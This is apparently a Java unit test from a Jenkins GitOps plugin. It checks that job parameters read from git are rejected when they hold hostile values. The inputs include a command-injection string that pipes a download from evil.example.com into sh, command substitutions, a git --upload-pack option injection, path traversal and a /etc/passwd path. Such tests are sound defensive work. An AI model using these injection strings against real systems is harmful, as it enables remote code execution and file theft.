package io.jenkins.plugins.gitops.configuration.base;

import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import hudson.model.Job;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Jobs hand their parameters to shells, and what is handed to them may have been read from git. */
@Tag("sandbox")
class JobParametersTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                " ",
                "'; curl evil.example.com | sh #",
                "$(id)",
                "`id`",
                "a b",
                "a\nb",
                "a\n",
                "-rf",
                "--upload-pack=x",
                "../x",
                "/etc/passwd",
                "a/b",
                "a:b",
                "\"",
                "%PATH%",
                "${env.X}",
                "x\u202e",
                "\u0000"
            })
    void areNoMoreThanNamesAndDigests(String hostile) {
        Job<?, ?> job = mock();
        when(job.getFullName()).thenReturn("acme/verify");

        assertThatThrownBy(() -> JobParameters.of(job, Map.of("GITOPS_WAVE", "staging", "GITOPS_REVISION", hostile)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("not handed to acme/verify as GITOPS_REVISION");
    }
}
